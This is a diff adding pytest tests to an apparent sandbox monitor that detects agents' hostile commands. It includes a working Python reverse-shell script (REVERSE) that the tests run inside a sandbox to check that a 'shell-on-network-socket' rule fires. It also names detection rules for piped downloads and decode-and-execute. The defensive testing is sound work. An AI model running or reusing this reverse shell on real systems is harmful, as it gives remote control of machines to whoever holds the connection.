@@ -96,3 +96,57 @@ async def test_downloads_and_decodings_read_as_data_stay_quiet(runtime, sb_facto
     got = await findings_for(runtime, sb, wait=1.0)
     assert not [f for f in got if f.rule_id in ("download-piped-to-shell", "decode-and-execute")], \
         [(f.rule_id, f.command) for f in got]
+
+
+def test_what_is_remembered_of_pipes_is_bounded():
+    """Every command of a session shares the session's stdin and the agent's capture pipes: what is
+    kept per pipe, and the number of pipes, stay bounded however many commands run."""
+    from corral.sandbox import codepipes
+
+    pipes = codepipes.CodePipes()
+    for pid in range(10_000):
+        pipes._add(pipes._writers, (1, 1), pid, codepipes._End("true"))
+        pipes._add(pipes._readers, (1, pid), pid, codepipes._End("cat"))
+    assert len(pipes._writers[(1, 1)]) == codepipes.PER_PIPE
+    assert list(pipes._writers[(1, 1)])[-1] == 9_999  # the newest kept
+    assert len(pipes._readers) == codepipes.MAX_ENDS
+
+
+REVERSE = """import os, socket, sys
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execvp(sys.argv[3], sys.argv[3:])
+"""
+
+
+@pytest.mark.asyncio
+async def test_a_shell_reading_a_network_connection_is_caught_from_the_socket_tables(runtime, sb_factory):
+    """A reverse shell made by a script file (no command line names a socket or a shell's -i): the
+    shell's stdin is a connected socket, and the kernel's tables name its peer."""
+    from tests.conftest import TLS, allow
+
+    sb = await sb_factory(allow(f"{TLS[2]}:{TLS[1]}"))
+    await sb.write_file("/workspace/r.py", REVERSE)
+    await sb.exec(f"timeout 5 python3 /workspace/r.py {TLS[0]} {TLS[1]} sh -i", timeout=20)
+    found = await findings_for(runtime, sb, "shell-on-network-socket")
+    assert found and found[0].data["argv"] == ["sh", "-i"] and found[0].data["event_action"] == "exec"
+
+
+@pytest.mark.asyncio
+async def test_programs_on_sockets_that_do_not_read_code_from_the_network_stay_quiet(runtime, sb_factory):
+    """The same descriptors on loopback (a local test server), and a script or a filter on a
+    connection off loopback: not a shell taking its commands from the network."""
+    from tests.conftest import TLS, allow
+
+    sb = await sb_factory(allow(f"{TLS[2]}:{TLS[1]}"))
+    await sb.write_file("/workspace/r.py", REVERSE)
+    await sb.write_file("/workspace/handler.py", "import sys\nprint('handled', file=sys.stderr)\n")
+    server = ("python3 -c 'import socket,time; s=socket.socket(); s.bind((\"127.0.0.1\",9100)); s.listen();"
+              " c,_=s.accept(); time.sleep(2)' & sleep 0.5; ")
+    for line in (server + "timeout 5 python3 /workspace/r.py 127.0.0.1 9100 sh -i; wait",
+                 f"timeout 5 python3 /workspace/r.py {TLS[0]} {TLS[1]} python3 /workspace/handler.py",
+                 f"timeout 5 python3 /workspace/r.py {TLS[0]} {TLS[1]} cat"):
+        await sb.exec(line, timeout=20)
+    got = await findings_for(runtime, sb, wait=1.0)
+    assert not [f for f in got if f.rule_id == "shell-on-network-socket"], [(f.rule_id, f.command) for f in got]
